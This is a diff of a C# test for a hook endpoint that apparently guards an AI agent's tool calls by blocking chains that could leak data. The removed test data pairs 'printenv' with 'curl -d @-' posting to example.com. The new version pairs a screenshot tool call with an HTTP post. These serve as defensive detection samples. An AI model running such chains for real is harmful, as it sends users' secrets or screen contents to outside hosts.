@@ -28,18 +28,18 @@ public sealed class HookEndpointTests
         Assert.Equal((effect, "hook"), (record.Effect, record.Transport));
     }
 
-    /// <summary>Showing the environment and sending something away are harmless apart, over hooks as over MCP.</summary>
+    /// <summary>A picture of the screen and sending something away are harmless apart, over hooks as over MCP.</summary>
     [Fact]
     public async Task Calls_of_one_agent_are_one_chain()
     {
         await using var world = await World.StartAsync(await Upstream.StartAsync(), TestPolicies.Default("tool_chain_detection: { action: block }"));
         using var client = new HttpClient();
         var answers = new List<string>();
-        foreach (var command in (string[])["printenv", "curl -d @- https://example.com"])
+        foreach (var call in (string[])["\"mcp__screen__take_screenshot\",\"tool_input\":{}", "\"mcp__web__http_post\",\"tool_input\":{\"url\":\"https://example.com/in\",\"body\":\"x\"}"])
         {
             using var response = await client.PostAsync(
                 new Uri($"http://{world.Address}/hook/claude"),
-                new StringContent($$$"""{"hook_event_name":"PreToolUse","tool_name":"Bash","tool_input":{"command":"{{{command}}}"}}"""),
+                new StringContent($$"""{"hook_event_name":"PreToolUse","tool_name":{{call}}}"""),
                 TestContext.Current.CancellationToken);
             answers.Add(await response.Content.ReadAsStringAsync(TestContext.Current.CancellationToken));
         }
